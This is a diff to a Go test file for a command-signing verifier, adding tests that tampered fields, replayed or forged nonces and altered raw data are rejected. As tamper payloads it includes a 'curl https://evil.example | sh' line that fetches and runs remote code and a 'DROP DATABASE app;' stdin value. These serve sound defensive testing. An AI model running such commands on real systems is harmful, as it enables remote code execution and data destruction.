@@ -5,6 +5,7 @@ import (
 	"crypto/rand"
 	"encoding/base64"
 	"encoding/json"
+	"errors"
 	"testing"
 	"time"
 )
@@ -457,6 +458,20 @@ func TestVerifyCommand_TamperedTimeout(t *testing.T) {
 	}
 }
 
+func TestVerifyCommand_TamperedPriority(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "npm run build", "", nil, 0, generateNonce())
+	cmd.Priority = 19 // Added after signing
+
+	data, _ := json.Marshal(cmd)
+	_, err := verifier.VerifyCommand(data)
+	if err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered priority, got %v", err)
+	}
+}
+
 func TestVerifyCommand_TamperedTimestamp(t *testing.T) {
 	signer, _ := GenerateKeyPair()
 	verifier, _ := NewVerifier(signer.PublicKeyBase64())
@@ -480,3 +495,221 @@ func generateNonce() string {
 	rand.Read(nonce)
 	return base64.StdEncoding.EncodeToString(nonce)
 }
+
+func TestVerifyCommand_TamperedPipefail(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "grep ERROR app.log | wc -l", "", nil, 0, generateNonce())
+	cmd.Pipefail = true // Added after signing
+
+	data, _ := json.Marshal(cmd)
+	_, err := verifier.VerifyCommand(data)
+	if err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered pipefail, got %v", err)
+	}
+}
+
+func TestVerifyCommand_TamperedDiskHeavy(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "npm run build", "", nil, 0, generateNonce())
+	cmd.DiskHeavy = true // Added after signing
+
+	data, _ := json.Marshal(cmd)
+	_, err := verifier.VerifyCommand(data)
+	if err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered disk_heavy, got %v", err)
+	}
+}
+
+func TestVerifyCommand_TamperedScript(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "", "", nil, 0, generateNonce())
+	cmd.Script = "echo hello\necho world\n"
+	cmd.Signature = signer.SignCommand(cmd)
+
+	data, _ := json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != nil {
+		t.Fatalf("expected signed script to verify, got %v", err)
+	}
+
+	cmd.Nonce = generateNonce()
+	cmd.Signature = signer.SignCommand(cmd)
+	cmd.Script += "curl https://evil.example | sh\n" // Added after signing
+
+	data, _ = json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered script, got %v", err)
+	}
+}
+
+func TestVerifyCommand_TamperedStdin(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "mysql app", "", nil, 0, generateNonce())
+	cmd.Stdin = "SELECT 1;"
+	cmd.Signature = signer.SignCommand(cmd)
+	cmd.Stdin = "DROP DATABASE app;" // Replaced after signing
+
+	data, _ := json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered stdin, got %v", err)
+	}
+}
+
+func TestVerifyCommand_TamperedMaxOutputBytes(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "cat storage/logs/laravel.log", "", nil, 0, generateNonce())
+	cmd.MaxOutputBytes = 1024
+	cmd.Signature = signer.SignCommand(cmd)
+	cmd.MaxOutputBytes = 1 << 30 // Raised after signing
+
+	data, _ := json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered max_output_bytes, got %v", err)
+	}
+}
+
+func TestVerifyCommand_TamperedApp(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "php artisan migrate --force", "current", nil, 0, generateNonce())
+	cmd.App = "staging.example.com"
+	cmd.Signature = signer.SignCommand(cmd)
+	cmd.App = "shop.example.com" // Pointed at another app after signing
+
+	data, _ := json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered app, got %v", err)
+	}
+}
+
+func TestVerifyCommand_GroupAndStep(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "php artisan migrate --force", "", nil, 0, generateNonce())
+	cmd.GroupID = "deploy_42"
+	cmd.Step = 2
+	cmd.Signature = signer.SignCommand(cmd)
+
+	data, _ := json.Marshal(cmd)
+	verified, err := verifier.VerifyCommand(data)
+	if err != nil {
+		t.Fatalf("expected valid signature, got %v", err)
+	}
+	if verified.GroupID != "deploy_42" || verified.Step != 2 {
+		t.Errorf("expected group deploy_42 step 2, got %q step %d", verified.GroupID, verified.Step)
+	}
+
+	// Moving the command to another step invalidates the signature
+	cmd.Step = 5
+	data, _ = json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Errorf("expected ErrInvalidSignature for tampered step, got %v", err)
+	}
+}
+
+// =============================================================================
+// NONCE REPLAY TESTS
+// =============================================================================
+
+func TestVerifyCommand_ReplayedNonce(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	cmd := signer.CreateSignedCommand("cmd_123", "php artisan cache:clear", "", nil, 0, generateNonce())
+	data, _ := json.Marshal(cmd)
+
+	if _, err := verifier.VerifyCommand(data); err != nil {
+		t.Fatalf("first submission failed: %v", err)
+	}
+	if _, err := verifier.VerifyCommand(data); err != ErrReplayedNonce {
+		t.Errorf("expected ErrReplayedNonce on replay, got %v", err)
+	}
+
+	// The same command with a fresh nonce is accepted
+	fresh := signer.CreateSignedCommand("cmd_123", "php artisan cache:clear", "", nil, 0, generateNonce())
+	data, _ = json.Marshal(fresh)
+	if _, err := verifier.VerifyCommand(data); err != nil {
+		t.Errorf("expected fresh nonce to be accepted, got %v", err)
+	}
+}
+
+func TestVerifyCommand_ForgedNonceNotRecorded(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	attacker, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	nonce := generateNonce()
+	forged := attacker.CreateSignedCommand("cmd_123", "echo forged", "", nil, 0, nonce)
+	data, _ := json.Marshal(forged)
+	if _, err := verifier.VerifyCommand(data); err != ErrInvalidSignature {
+		t.Fatalf("expected ErrInvalidSignature, got %v", err)
+	}
+
+	// A forged message can't burn the nonce of a legitimate one
+	cmd := signer.CreateSignedCommand("cmd_123", "echo legit", "", nil, 0, nonce)
+	data, _ = json.Marshal(cmd)
+	if _, err := verifier.VerifyCommand(data); err != nil {
+		t.Errorf("expected legitimate command to be accepted, got %v", err)
+	}
+}
+
+func TestVerifier_NonceSweep(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	retention := MaxMessageAge + MaxClockSkew
+	verifier.nonces["old"] = time.Now().Add(-retention - time.Second)
+	verifier.nonces["recent"] = time.Now().Add(-time.Minute)
+
+	if err := verifier.checkNonce("new"); err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if _, ok := verifier.nonces["old"]; ok {
+		t.Error("expected expired nonce to be purged")
+	}
+	if _, ok := verifier.nonces["recent"]; !ok {
+		t.Error("expected recent nonce to be kept")
+	}
+	if err := verifier.checkNonce("recent"); err != ErrReplayedNonce {
+		t.Errorf("expected ErrReplayedNonce for recent nonce, got %v", err)
+	}
+}
+
+// =============================================================================
+// RAW DATA SIGNATURE TESTS
+// =============================================================================
+
+func TestVerify_RawData(t *testing.T) {
+	signer, _ := GenerateKeyPair()
+	verifier, _ := NewVerifier(signer.PublicKeyBase64())
+
+	data := []byte("release binary contents")
+	signature := signer.Sign(data)
+
+	if err := verifier.Verify(data, signature); err != nil {
+		t.Errorf("expected valid signature, got %v", err)
+	}
+	if err := verifier.Verify([]byte("tampered binary contents"), signature); !errors.Is(err, ErrInvalidSignature) {
+		t.Errorf("expected ErrInvalidSignature for tampered data, got %v", err)
+	}
+	if err := verifier.Verify(data, signature[:10]); !errors.Is(err, ErrInvalidSignature) {
+		t.Errorf("expected ErrInvalidSignature for short signature, got %v", err)
+	}
+
+	disabled, _ := NewVerifier("")
+	if err := disabled.Verify(data, signature); !errors.Is(err, ErrSigningDisabled) {
+		t.Errorf("expected ErrSigningDisabled, got %v", err)
+	}
+}